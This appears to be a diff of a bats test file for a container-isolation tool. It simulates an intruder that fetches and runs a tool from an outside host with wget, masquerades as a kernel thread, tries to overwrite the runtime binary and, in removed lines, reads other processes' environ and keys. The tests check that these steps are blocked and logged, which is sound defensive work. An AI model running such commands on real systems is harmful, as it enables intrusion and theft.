@@ -25,24 +25,50 @@ exploit() {
 	exec 5<&-
 }
 
+# world: a network outside, where the intruder has his tools; here the host serves the same to whom it should not.
+world() {
+	ip netns add world
+	ip link add up0 type veth peer name w0 netns world
+	ip addr add 198.51.100.1/24 dev up0 && ip link set up0 up && ip route add default via 198.51.100.2
+	ip -n world addr add 198.51.100.2/24 dev w0 && ip -n world link set w0 up && ip -n world route add 10.89.0.0/16 via 198.51.100.1
+	echo 1 >/proc/sys/net/ipv4/ip_forward
+	mkdir -p $SANDBOX/tools && cp "$BULKHEAD_BIN/test/tryout" $SANDBOX/tools/tool
+	ip netns exec world busybox httpd -f -p 198.51.100.2:80 -h $SANDBOX/tools 3>&- &
+	servers=$!
+	busybox httpd -f -p 8099 -h $SANDBOX/tools 3>&- &
+	servers+=" $!"
+}
+fetch() { exploit "$address" "timeout 3 wget -q -O /tmp/tool http://$1/tool && echo fetched; chmod +x /tmp/tool; echo end"; }
+
 @test "the intruder: gets in, finds the kernel closed, hides, is found and removed, and is on the receipt" {
 	requires root podman netns podmancni
-	victim=$(start shop -v $SANDBOX/www:/www:ro -v "$BULKHEAD_BIN/test/tryout:/tmp/tool:ro" -- httpd -f -p 80 -h /www)
-	other=$(start neighbour --network none)
+	RUNTIME=runc
+	harden_control
+	world
+	victim=$(start shop -v $SANDBOX/www:/www:ro -- httpd -f -p 80 -h /www)
+	other=$(start neighbour)
+	listen neighbour
 	address=$(ip_of shop)
 	eventually busybox wget -q -O /dev/null "http://$address:80/index.html"
 	# 1. In: it is root in the container. That is what it is given.
-	run exploit "$address" 'id -u; hostname'
-	[ "$status" -eq 0 ] || fail "$output"
-	contains "$output" 0
-	# 2. The toolset runs, and finds nothing that works.
+	run exploit "$address" 'id -u'
+	[ "$output" = 0 ] || fail "$output"
+	# 2. Tools: not from the neighbour, not from the host (control: it serves them); from outside, as policy allows by default.
+	busybox wget -q -O /dev/null "http://10.89.64.1:8099/tool"
+	for server in "$(ip_of neighbour)" 10.89.64.1:8099 198.51.100.1:8099; do
+		run fetch "$server"
+		contains "$output" end
+		lacks "$output" fetched
+	done
+	run fetch 198.51.100.2
+	contains "$output" fetched
+	# 3. The kernel: nothing that the toolset tries works.
 	exploit "$address" '/tmp/tool' >"$BATS_TEST_TMPDIR/tool.json"
-	harden_control
 	judge_all "$BATS_TEST_TMPDIR/tool.json"
-	# 3. What the neighbour runs is not to be seen, nor its files.
+	# 4. The neighbours: what they run is not to be seen, nor their files.
 	run exploit "$address" 'ps; ls /proc | grep -c "^[0-9]"; find / -xdev -name "*neighbour*" 2>/dev/null'
 	lacks "$output" "sleep 1000" neighbour
-	# 4. It hides as a kernel thread, and stays.
+	# 5. The hold: it passes itself off as a kernel thread, and stays. That is seen, and ended; the shop is still open.
 	exploit "$address" 'sh -c "printf kworker/u8:3 >/proc/\$\$/comm; while :; do sleep 1; done" >/dev/null 2>&1 </dev/null & echo'
 	eventually sh -c "cat /proc/[0-9]*/comm | grep -qx kworker/u8:3"
 	run bulkhead rogues
@@ -50,44 +76,33 @@ exploit() {
 	contains "$output" "kworker/u8:3" "looks like a kernel thread" shop
 	run bulkhead rogues --kill
 	[ "$status" -eq 0 ] || fail "$output"
-	busybox wget -q -O /dev/null "http://$address:80/index.html" # the shop is still open
+	busybox wget -q -O /dev/null "http://$address:80/index.html"
 	run bulkhead rogues
 	[ "$status" -eq 0 ] || fail "$output"
+	# 6. The books: what was refused at the port, what was fetched, and that nothing is left.
+	podman rm -f -t 0 "$victim"
+	eventually test -n "$(receipt_of "$victim")"
+	line=$(receipt_of "$victim")
+	[ "$(jq '.leftovers == 0 and .net[0].dropped_policy >= 3 and .net[0].in_bytes > 1000000 and .pids_peak > 1' <<<"$line")" = true ] || fail "$line"
+	# With `egress.default = "deny"` the tools do not even come.
+	policy <<-END
+		[egress]
+		default = "deny"
+	END
+	victim=$(start shop -v $SANDBOX/www:/www:ro -- httpd -f -p 80 -h /www)
+	address=$(ip_of shop)
+	eventually busybox wget -q -O /dev/null "http://$address:80/index.html"
+	run fetch 198.51.100.2
+	contains "$output" end
+	lacks "$output" fetched
+	policy </dev/null
 	podman rm -f -t 0 "$victim" "$other"
-	eventually test -n "$(receipts | jq -c --arg id "$victim" 'select(.id == $id)')"
+	kill $servers
+	ip netns del world
+	ip link del up0 2>/dev/null || true
 }
 
-# probe: all that a container can learn, in shell.
-PROBE='hostname; cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ /proc/[0-9]*/comm /proc/[0-9]*/cgroup /proc/[0-9]*/mountinfo 2>/dev/null | tr "\0" "\n"
-	cat /proc/keys /proc/key-users /proc/locks /proc/timer_list /proc/sched_debug /proc/net/* /proc/sysvipc/* /proc/mounts /proc/modules 2>/dev/null
-	dmesg 2>/dev/null; ls -laR /dev /run /tmp /var 2>/dev/null; find /sys/fs/cgroup /sys/kernel /sys/class/net 2>/dev/null; cat /proc/net/unix /proc/net/arp
-	n=secret; nslookup $n-red 2>/dev/null | grep -A1 ^Name; cat /etc/hosts; for f in /proc/sysvipc/*; do cat $f; done; ls -la /proc/self/fd; echo probed'
-# plant: what the other one has of each kind, under one name.
-PLANT='hostname secret-red 2>/dev/null; mkdir -p /dev/shm/secret-red; touch /tmp/secret-red; printf secret-red >/proc/self/comm
-	nc -l -s 127.0.0.1 -p 4242 & SECRET=secret-red exec sh -c ": secret-red; while :; do sleep 1; done"'
-
-leaks() {
-	red=$(start red-leak --network none --hostname secret-red -- sh -c "$PLANT")
-	sleep_until_planted
-	run podman run --rm --network none "$IMAGE" sh -c "$PROBE"
-	contains "$output" probed
-	lacks "$output" secret-red "${red:0:12}"
-	podman rm -f -t 0 "$red"
-}
-sleep_until_planted() { eventually podman exec red-leak test -e /tmp/secret-red; }
-
-@test "what one container can learn of another: nothing that the other has named" {
-	requires root podman
-	each_runtime leaks
-	# Control: sharing what the host has, without bulkhead, the same probe finds it.
-	RUNTIME=runc
-	red=$(bare run -d --name red-leak --network none --hostname secret-red --ipc host --pid host "$IMAGE" sh -c "$PLANT")
-	eventually bare exec red-leak test -e /tmp/secret-red
-	run bare run --rm --network none --ipc host --pid host --cgroupns host "$IMAGE" sh -c "$PROBE"
-	bare rm -f -t 0 "$red"
-	rm -rf /dev/shm/secret-red
-	contains "$output" secret-red
-}
+receipt_of() { receipts | jq -c --arg id "$1" 'select(.id == $id)'; }
 
 ALL_WAYS='abstract socket
 keyring
@@ -173,11 +188,10 @@ ask() { podman exec "$1" timeout 3 nslookup "$2" "$3" 2>&1 | sed -n '/^Name:/,$p
 	start friend --network blue
 	contains "$(ask asker friend.dns.podman 10.89.71.1)" "$(ip_of friend blue)"
 	address=$(ip_of secret-red red)
-	for server in 10.89.71.1 10.89.72.1; do
-		for name in secret-red.dns.podman "${red:0:12}.dns.podman" "$address"; do
-			lacks "$(ask asker "$name" $server)" "Name:" secret "$address"
-		done
+	for name in secret-red.dns.podman "${red:0:12}.dns.podman" "$address"; do
+		lacks "$(ask asker "$name" 10.89.71.1)" "Name:" secret "$address"
 	done
+	lacks "$(ask asker secret-red.dns.podman 10.89.72.1)" "Name:" secret "$address"
 	podman rm -f -t 0 secret-red asker friend
 	rm $SANDBOX/etc/networks/{shared,blue,red}.conflist
 }
@@ -255,14 +269,14 @@ overwrite() {
 	copied
 	before=$(sha256sum "$SANDBOX/copies/$RUNTIME" "$SANDBOX/bin/bulkhead-runtime")
 	id=$(start overwriter --network none --cap-add all "${UNCONFINED[@]}" -- sh -c "$OVERWRITER")
-	for ((i = 0; i < 5; i++)); do
+	for ((i = 0; i < 3; i++)); do
 		podman exec overwriter /proc/self/exe >/dev/null 2>&1 || true
 		podman exec overwriter true
 	done
 	lacks "$(podman logs overwriter 2>&1)" WROTE
 	podman rm -f -t 0 "$id"
 	id=$(wrapped run -d --name overwriter --network none --cap-add all "${UNCONFINED[@]}" "$IMAGE" sh -c "$OVERWRITER")
-	for ((i = 0; i < 5; i++)); do wrapped exec overwriter /proc/self/exe >/dev/null 2>&1 || true; done
+	for ((i = 0; i < 3; i++)); do wrapped exec overwriter /proc/self/exe >/dev/null 2>&1 || true; done
 	lacks "$(wrapped logs overwriter 2>&1)" WROTE
 	wrapped rm -f -t 0 "$id"
 	[ "$(sha256sum "$SANDBOX/copies/$RUNTIME" "$SANDBOX/bin/bulkhead-runtime")" = "$before" ]
@@ -290,7 +304,7 @@ visited() {
 	cp "$(command -v nsenter)" $SANDBOX/copies/nsenter
 	id=$(start overwriter --network none --cap-add all "${UNCONFINED[@]}" -- sh -c "$OVERWRITER")
 	pid=$(podman inspect -f '{{.State.Pid}}' overwriter)
-	for ((i = 0; i < 50; i++)); do
+	for ((i = 0; i < 20; i++)); do
 		if visited "$pid"; then fail "the host's program was overwritten"; fi
 	done
 	podman rm -f -t 0 "$id"
